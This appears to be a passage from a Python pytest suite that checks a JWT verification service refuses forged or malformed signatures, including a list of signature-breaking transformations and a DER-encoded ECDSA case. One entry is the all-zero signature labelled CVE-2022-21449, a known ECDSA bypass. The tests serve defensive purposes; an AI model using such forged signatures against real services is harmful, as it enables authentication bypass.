            is_able = isinstance(key.private, rsa.RSAPrivateKey) and other[:2] in {"RS", "PS"}
            signature = key.sign(signing_input.encode(), other if is_able else alg)
            event = make_event(f"{signing_input}.{b64(signature)}")

            _check_answer(service.invoke(event), UNKNOWN_KID, {"kid": alg})


@pytest.mark.parametrize("alg", ALGORITHMS)
def test_no_algorithm_takes_a_broken_signature(keys_by_alg: dict[str, SigningKey], alg: str) -> None:
    key = keys_by_alg[alg]
    with deployed(key, ALGORITHMS=alg) as service:
        for break_signature in BREAKAGES:
            signing_input, _, _ = make_token(key).rpartition(".")
            broken = break_signature(key.sign(signing_input.encode()))

            _check_answer(service.invoke(make_event(f"{signing_input}.{b64(broken)}")), SIGNATURE, {})


BREAKAGES: list[Callable[[bytes], bytes]] = [
    lambda signature: bytes(len(signature)),  # CVE-2022-21449: the one that fits every ECDSA key
    lambda signature: b"\xff" * len(signature),
    lambda signature: signature[:-1],
    lambda signature: signature + b"\0",
    lambda signature: b"\0" + signature,
    lambda signature: signature[::-1],
    lambda signature: b"\0",
    lambda signature: signature * 2,
]


def test_a_signature_of_ecdsa_is_refused_if_it_is_in_der(keys_by_alg: dict[str, SigningKey]) -> None:
    key = keys_by_alg["ES256"]
    assert isinstance(key.private, ec.EllipticCurvePrivateKey)
    signing_input, _, _ = make_token(key).rpartition(".")
    raw = key.sign(signing_input.encode())
    der = encode_dss_signature(int.from_bytes(raw[:32]), int.from_bytes(raw[32:]))
    with deployed(key, ALGORITHMS="ES256") as service:
        _check_answer(service.invoke(make_event(f"{signing_input}.{b64(der)}")), SIGNATURE, {})
